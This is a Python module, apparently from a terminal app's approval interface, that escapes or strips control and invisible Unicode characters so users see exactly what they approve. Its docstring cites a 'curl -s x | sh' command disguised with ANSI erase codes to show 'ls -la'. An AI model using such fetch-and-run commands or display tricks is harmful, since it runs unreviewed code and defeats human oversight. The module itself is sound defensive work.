"""Text a user decides on, shown as it is: no character of it may act on the terminal or hide.

Textual writes a string's characters to the terminal as they are, control characters included:
an approval row for ``curl -s x | sh # ESC[2K ESC[1G ls -la`` showed ``ls -la`` in a real terminal
(ESC[2K erased the line, ESC[1G went back to its start), and OSC sequences retitled the window or
hid text. Bidi overrides (U+202E) reorder what a bidi-aware terminal shows; zero-width characters
make two different paths look the same.

- ``visible(text)``: for what the user approves (commands, paths, diffs, plans, a server's
  request): each control character but newline and tab becomes ``\\xNN`` (``\\r`` for a carriage
  return, which would otherwise read as a line break), each invisible format character (bidi
  controls, zero-width spaces, the BOM, tag characters: Unicode category Cf) ``<U+XXXX>``.
- ``strip_invisible(text)``: for every line the app draws (the app's line filter): the same
  characters removed. They have no width to Textual, so nothing moves; none reaches the terminal.

Pure functions, no Textual (core).
"""

from __future__ import annotations

import re
import unicodedata

from .model_output import clean_text

_CONTROLS = "\x00-\x08\x0b-\x1f\x7f-\x9f"
_FORMATS = "\u00ad\u061c\u180e\u200b-\u200f\u202a-\u202e\u2060-\u206f\ufeff\ufff9-\ufffb\U000e0000-\U000e007f"
_SHOWN = re.compile(f"[{_CONTROLS}\r{_FORMATS}]")
_HIDDEN = re.compile(
    f"[{_CONTROLS}\r\u061c\u180e\u200b\u200e\u200f\u202a-\u202e\u2060-\u206f\ufeff\ufff9-\ufffb\U000e0000-\U000e007f]"
)
"""What ``strip_invisible`` removes: the same but ZWNJ / ZWJ (U+200C, U+200D), which join emoji and
shape Indic and Arabic text."""


def _shown(match: re.Match[str]) -> str:
    char = match.group(0)
    code = ord(char)
    if char == "\r":
        return "\\r"
    if code < 0xA0:
        return f"\\x{code:02x}"
    return f"<U+{code:04X}>"


def visible(text: str, *, crlf: bool = False) -> str:
    """``text`` with every control and invisible format character written out (see the module).
    ``crlf``: a carriage return right before a newline stays (a file's line endings, in a diff)."""
    text = clean_text(text)
    if crlf:
        text = text.replace("\r\n", "\n")
    if _SHOWN.search(text) is None and not _has_other_format(text):
        return text
    out = _SHOWN.sub(_shown, text)
    if _has_other_format(out):
        out = "".join(f"<U+{ord(c):04X}>" if unicodedata.category(c) == "Cf" else c for c in out)
    return out


def _has_other_format(text: str) -> bool:
    """A Cf character outside the ranges above (rare: Arabic number signs, musical formatting)."""
    return not text.isascii() and any(unicodedata.category(c) == "Cf" for c in text)


def strip_invisible(text: str) -> str:
    """``text`` without control characters and the invisible format characters (see the module)."""
    return _HIDDEN.sub("", text) if _HIDDEN.search(text) else text
